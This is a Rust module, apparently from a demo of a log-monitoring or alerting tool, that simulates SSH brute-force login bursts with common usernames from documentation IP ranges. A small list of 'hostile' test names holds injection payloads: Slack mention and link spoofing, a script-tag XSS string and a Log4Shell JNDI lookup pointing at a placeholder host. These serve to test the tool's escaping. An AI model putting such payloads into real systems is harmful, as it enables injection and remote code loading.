//! Those who try names: in bursts, from one address at one machine.

use std::time::Duration;

use fastrand::Rng;

/// The machine that is tried most: `rpi-03`, which the shipped rule's comment names.
const FAVOURITE: usize = 2;

const NAMES: &[&str] = &[
    "admin",
    "oracle",
    "postgres",
    "test",
    "ubuntu",
    "git",
    "gpadmin",
    "mini",
    "ftpuser",
    "minecraft",
    "hadoop",
    "jenkins",
    "deploy",
    "user",
    "steam",
    "nagios",
    "guest",
    "mysql",
    "support",
    "backup",
    "vagrant",
    "elastic",
    "odoo",
    "tomcat",
    "www",
    "zabbix",
    "ansible",
    "server",
    "dev",
    "ec2-user",
];

/// Names that want to be more than text: to Slack, to a page, to a terminal.
const HOSTILE: &[&str] = &[
    "<!channel>",
    "*admin* _root_ `id`",
    "<https://login.example.net|slack.com>",
    "</ol><script>alert(1)</script>",
    "<@U024BE7LH> &lt;!here&gt;",
    "${jndi:ldap://192.0.2.9/a}",
];

/// Documentation addresses (RFC 5737): nobody is accused.
const NETWORKS: &[&str] = &["192.0.2", "198.51.100", "203.0.113"];

/// Every so many attempts one has a hostile name, the third first.
const HOSTILE_EVERY: u64 = 11;

/// One attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Attempt {
    /// Index of the machine.
    pub(super) host: usize,
    /// Of its sshd.
    pub(super) pid: u32,
    /// The port that it came from.
    pub(super) port: u16,
    /// The name that was tried.
    pub(super) name: &'static str,
    /// The address that it came from.
    pub(super) address: String,
    /// The burst's attempts, on its last one.
    pub(super) last_of: Option<u32>,
}

/// When the next attempt comes, and from where.
#[derive(Debug)]
pub(super) struct Attack {
    /// Between two attempts on average.
    mean: Duration,
    /// Since the start.
    next: Duration,
    /// How many there were.
    count: u64,
    host: usize,
    address: String,
    pid: u32,
    /// Attempts of this burst, and how many of them are still to come.
    burst: u32,
    left: u32,
    /// Time that this burst has used.
    used: Duration,
}

impl Attack {
    /// The first burst comes at once: a demo that shows nothing is none.
    pub(super) fn new(mean: Duration, rng: &mut Rng) -> Self {
        let mut attack = Self {
            mean,
            next: Duration::from_millis(100),
            count: 0,
            host: FAVOURITE,
            address: String::new(),
            pid: 24_150,
            burst: 4,
            left: 4,
            used: Duration::ZERO,
        };
        attack.address = address(rng);
        attack
    }

    /// The next attempt, if its time has come.
    pub(super) fn due(&mut self, elapsed: Duration, rng: &mut Rng) -> Option<Attempt> {
        if elapsed < self.next {
            return None;
        }
        self.count += 1;
        self.left = self.left.saturating_sub(1);
        self.pid += rng.u32(1..40);
        let attempt = Attempt {
            host: self.host,
            pid: self.pid,
            port: rng.u16(33_000..60_999),
            name: self.name(rng),
            address: self.address.clone(),
            last_of: (self.left == 0).then_some(self.burst),
        };
        let gap = self.mean.mul_f64(0.3 + rng.f64());
        self.used += gap;
        self.next += gap;
        if self.left == 0 {
            // The pause brings the burst to the mean.
            self.next += (self.mean * self.burst).saturating_sub(self.used);
            self.begin(rng);
        }
        Some(attempt)
    }

    fn begin(&mut self, rng: &mut Rng) {
        self.burst = rng.u32(2..=5);
        self.left = self.burst;
        self.used = Duration::ZERO;
        self.host = if rng.bool() { FAVOURITE } else { rng.usize(..super::HOSTS) };
        self.address = address(rng);
    }

    fn name(&self, rng: &mut Rng) -> &'static str {
        let hostile = self.count % HOSTILE_EVERY == 3;
        if hostile {
            let index = usize::try_from(self.count / HOSTILE_EVERY).unwrap_or(0);
            return HOSTILE[index % HOSTILE.len()];
        }
        NAMES[rng.usize(..NAMES.len())]
    }
}

fn address(rng: &mut Rng) -> String {
    format!("{}.{}", NETWORKS[rng.usize(..NETWORKS.len())], rng.u8(1..255))
}
